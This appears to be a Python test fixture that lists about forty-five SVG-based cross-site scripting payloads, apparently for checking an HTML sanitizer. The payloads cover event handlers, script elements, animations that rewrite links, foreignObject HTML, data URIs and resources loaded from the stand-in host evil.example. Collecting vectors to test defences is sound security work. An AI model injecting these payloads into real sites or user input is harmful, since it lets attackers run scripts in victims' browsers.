"""SVG: a language with scripts, animations and references of its own."""
# ruff: noqa: E501 -- an attack is easier to read in one piece

ATTACKS = {
    "a drawing that loads": "<svg onload=boom()>x</svg>y",
    "a drawing that loads without a space": "<svg/onload=boom()>y",
    "a drawing whose tag nothing ends": "<svg onload=boom()//",
    "a script in a drawing": "<svg><script>boom()</script></svg>x",
    "a script in a drawing, with entities": "<svg><script>&#98;oom()</script></svg>x",
    "a script in a drawing, by reference": "<svg><script href=//evil.example/a.js></script></svg>x",
    "a script in a drawing, by an old reference": (
        "<svg><script xlink:href=data:text/javascript,boom()></script></svg>x"
    ),
    "a script in a drawing that closes itself": "<svg><script href=/evil/a.js /></svg>x",
    "a script in a marked section": "<svg><script><![CDATA[boom()]]></script></svg>x",
    "an image in a drawing": "<svg><image href=//evil.example/a.png></svg>x",
    "an image in a drawing that fails": "<svg><image href=x onerror=boom()></svg>x",
    "an image in a drawing by an old reference": "<svg><image xlink:href=//evil.example/b.png></svg>x",
    "a drawing that uses another's shape": "<svg><use href='//evil.example/a.svg#x'></svg>x",
    "a drawing that uses a shape made of data": (
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
        "<image href='x' onerror='boom()'/></svg>#x\"></svg>x"
    ),
    "a shape of the site itself": "<svg><use xlink:href=/evil/shapes.svg#x></use></svg>x",
    "an animation that begins": "<svg><animate onbegin=boom() attributeName=x dur=1s></svg>x",
    "an animation that ends": "<svg><animate onend=boom() attributeName=x dur=1ms></svg>x",
    "a set that begins": "<svg><set onbegin=boom() attributeName=x to=1></svg>x",
    "a motion that begins": "<svg><animateMotion onbegin=boom() dur=1s></svg>x",
    "a transformation that begins": "<svg><animateTransform onbegin=boom() dur=1s></svg>x",
    "an animation that repeats": (
        "<svg><animate onrepeat=boom() attributeName=x dur=1ms repeatCount=2></svg>x"
    ),
    "an animation that turns a link into a script": (
        "<svg><a><animate attributeName=href values=javascript:boom() /><text y=20>x</text></a></svg>"
    ),
    "an animation that turns an old link into a script": (
        "<svg><a xlink:href=#><animate attributeName=xlink:href from=javascript:boom() to=# />"
        "<text y=20>x</text></a></svg>"
    ),
    "a set that turns a link into a script": (
        "<svg><a><set attributeName=href to=javascript:boom() /><text y=20>x</text></a></svg>"
    ),
    "a set that gives an element a handler": (
        "<svg><circle r=40><set attributeName=onmouseover to=boom() /></circle></svg>x"
    ),
    "a link in a drawing": "<svg><a href=javascript:boom()><text y=20>x</text></a></svg>",
    "a link in a drawing, with its namespace": (
        "<svg xmlns:xlink=http://www.w3.org/1999/xlink><a xlink:href=javascript:boom()>"
        "<rect width=99 height=99 /></a></svg>x"
    ),
    "a link in a drawing to elsewhere, in the top": (
        "<svg><a href=//evil.example/svg target=_top><text y=20>x</text></a></svg>"
    ),
    "HTML in a drawing": "<svg><foreignObject><img src=x onerror=boom()></foreignObject></svg>",
    "a frame in a drawing": (
        "<svg><foreignObject><iframe src=javascript:boom()></iframe></foreignObject></svg>x"
    ),
    "a body in a drawing": "<svg><foreignObject><body onload=boom()></foreignObject></svg>x",
    "a style sheet in a drawing": "<svg><style>@import '//evil.example/svg.css'</style></svg>x",
    "a style sheet in a drawing, with entities": (
        "<svg><style>&#64;import '//evil.example/svg2.css'</style></svg>x"
    ),
    "a fill from elsewhere": "<svg><rect fill='url(//evil.example/fill.svg#x)' width=9 height=9></svg>x",
    "a filter from elsewhere": "<svg><g filter='url(//evil.example/f.svg#x)'><rect></g></svg>x",
    "a mask from elsewhere": "<svg><g mask='url(/evil/mask.svg#x)'><rect></g></svg>x",
    "a filter with an image": (
        "<svg><filter id=f><feImage href=//evil.example/fe.png /></filter>"
        "<rect filter=url(#f) width=9 height=9 /></svg>x"
    ),
    "a drawing's handler element": "<svg><handler type=text/javascript>boom()</handler></svg>x",
    "a drawing's discarded element": "<svg><discard onbegin=boom() begin=0s></svg>x",
    "a title in a drawing": "<svg><title><img src=x onerror=boom()></title></svg>x",
    "a description in a drawing": "<svg><desc><img src=x onerror=boom()></desc></svg>x",
    "a drawing in an image of data": (
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImJvb20oKSIvPg=='>x"
    ),
    "a drawing in an image of plain data": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='boom()'><image href='//evil.example/in.png'/></svg>\">x"
    ),
    "a drawing as an embedded document": (
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='boom()'/>\">x"
    ),
    "a drawing in a formula": "<math><mtext><svg onload=boom()></svg></mtext></math>x",
    "a drawing in a table": "<table><svg onload=boom()></svg><tr><td>x</table>",
}
